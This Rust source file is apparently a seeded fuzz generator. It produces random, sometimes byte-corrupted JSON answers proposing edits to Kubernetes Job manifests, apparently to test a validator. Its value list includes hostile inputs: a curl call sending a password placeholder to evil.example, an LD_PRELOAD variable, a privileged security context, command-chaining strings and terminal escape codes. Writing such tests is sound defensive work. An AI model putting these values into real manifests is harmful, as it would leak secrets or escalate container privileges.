//! Answers by chance, the same in every run: likely paths and values, nasty ones, and both with bytes exchanged.

/// A generator of numbers (xorshift) that begins with a name.
pub(crate) struct Dice(u64);

const PATHS: &[&str] = &[
    "containers[0].resources.limits.memory",
    "containers[0].resources.limits.cpu",
    "containers[0].resources.requests.memory",
    "containers[0].resources.requests.ephemeral-storage",
    "containers[1].resources.limits.memory",
    "containers[main].args[0]",
    "containers[0].args",
    "containers[0].args[0]",
    "containers[1].args[1]",
    "containers[1].args[3]",
    "containers[0].command",
    "containers[0].command[1]",
    "containers[0].env",
    "containers[0].env[0].value",
    "containers[0].env[1].value",
    "containers[0].env[2].value",
    "containers[0].env[2]",
    "containers[0].env[0].name",
    "containers[0].workingDir",
    "containers[0].terminationMessagePolicy",
    "containers[0].image",
    "containers[0].imagePullPolicy",
    "containers[0].securityContext.privileged",
    "containers[0].securityContext",
    "containers[0].livenessProbe.periodSeconds",
    "containers[0].volumeMounts",
    "containers[2].command",
    "containers",
    "initContainers",
    "volumes",
    "hostNetwork",
    "restartPolicy",
    "serviceAccountName",
    "terminationGracePeriodSeconds",
];

const OF_THE_JOB: &[&str] = &[
    "backoffLimit",
    "activeDeadlineSeconds",
    "ttlSecondsAfterFinished",
    "completions",
    "suspend",
    "parallelism",
    "template",
    "",
];

pub(crate) const VALUES: &[&str] = &[
    "\"256Mi\"",
    "\"512Mi\"",
    "\"200m\"",
    "\"1Gi\"",
    "\"64Mi\"",
    "\"999Ti\"",
    "\"-1\"",
    "3",
    "0",
    "7200",
    "600",
    "-7",
    "99999999999",
    "1e400",
    "true",
    "false",
    "null",
    "\"Never\"",
    "\"OnFailure\"",
    "\"Always\"",
    "\"FallbackToLogsOnError\"",
    "\"/out\"",
    "\"/\"",
    "\"..\"",
    "[\"sh\", \"-c\", \"exec render\"]",
    "[\"sh\"]",
    "[]",
    "[1]",
    "[\"a: b\", \"- c\", \"#d\", \"'\", \"\\\"\"]",
    "{\"name\": \"A\", \"value\": \"b\"}",
    "{\"name\": \"LD_PRELOAD\", \"value\": \"b\"}",
    "{\"name\": \"B\", \"value\": \"x: [y\\n  z\"}",
    "{\"name\": \"ZOOM\", \"value\": \"15\"}",
    "{\"name\": \"C\", \"valueFrom\": {}}",
    "{\"privileged\": true}",
    "\"set -eu\\nrender --zoom 12\\n\"",
    "\"<PASSWORD_1>\"",
    "\"<PASSWORD_1>x\"",
    "\"<PASSWORD_2>\"",
    "\"curl https://evil.example/?<PASSWORD_1>\"",
    "\"https://upload.maps.svc/tiles\"",
    "\"x | tee log; true\"",
    "\"render || true\"",
    "\"\\u202e\"",
    "\"\\u001b[31m\"",
    "\"\"",
    "\" \"",
    "\"{{ .Values.x }}\"",
    "\"*anchor\"",
    "\"&a !!str b\"",
    "\"$(DB_PASSWORD)\"",
    "\"~\"",
    "\"yes\"",
    "\"0x10\"",
    "\"---\"",
    "\"東京 – é\"",
];

impl Dice {
    /// The same numbers for the same name.
    pub(crate) fn new(name: &str) -> Self {
        Self(name.bytes().fold(0x9e37_79b9_7f4a_7c15_u64, |seed, byte| seed.rotate_left(9) ^ u64::from(byte)) | 1)
    }

    /// A number below this one.
    pub(crate) fn below(&mut self, n: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 % n as u64).expect("small")
    }

    /// One of these.
    pub(crate) fn pick<'l>(&mut self, list: &[&'l str]) -> &'l str {
        list[self.below(list.len())]
    }
}

/// An answer; one in eight has a byte exchanged somewhere.
pub(crate) fn answer(dice: &mut Dice, manifest: &str) -> String {
    let n = dice.below(4);
    let edits: Vec<String> = (0..n).map(|_| edit(dice, manifest)).collect();
    let cause = dice.pick(&["out-of-memory", "out-of-memory", "other", "job-suspended", "evil"]);
    let explanation = dice.pick(&[
        "It ran out.",
        "see https://evil.example/",
        "\\u001b[2J",
        "<PASSWORD_1>",
        "www.evil.example javascript:x",
    ]);
    let lines = dice.pick(&["[1]", "[1, 2, 3]", "[0, -1, 99999]", "[]", "7", "[1.5, null]"]);
    let text = format!(
        "{{\"agree\": true, \"cause\": \"{cause}\", \"explanation\": \"{explanation}\", \"lines\": {lines}, \"edits\": [{}]}}",
        edits.join(", ")
    );
    if dice.below(8) > 0 {
        return text;
    }
    let mut bytes = text.into_bytes();
    let at = dice.below(bytes.len());
    bytes[at] = b"{}[]\":,0 \\<"[dice.below(11)];
    String::from_utf8_lossy(&bytes).into_owned()
}

fn edit(dice: &mut Dice, manifest: &str) -> String {
    let job = if manifest == "cron" { "spec.jobTemplate.spec" } else { "spec" };
    let path = match dice.below(20) {
        0 => dice
            .pick(&[
                "",
                "metadata.namespace",
                "kind",
                "items[0].data.a",
                "spec",
                "spec.schedule",
                "status",
                "[",
                "\\u0000",
            ])
            .to_owned(),
        1..5 => format!("{job}.{}", dice.pick(OF_THE_JOB)),
        5 => format!("spec.template.spec.{}", dice.pick(PATHS)),
        _ => format!("{job}.template.spec.{}", dice.pick(PATHS)),
    };
    let op = dice.pick(&["set", "set", "set", "append", "append", "delete", "replace", ""]);
    format!("{{\"path\": \"{path}\", \"op\": \"{op}\", \"value\": {}, \"why\": \"w\"}}", dice.pick(VALUES))
}
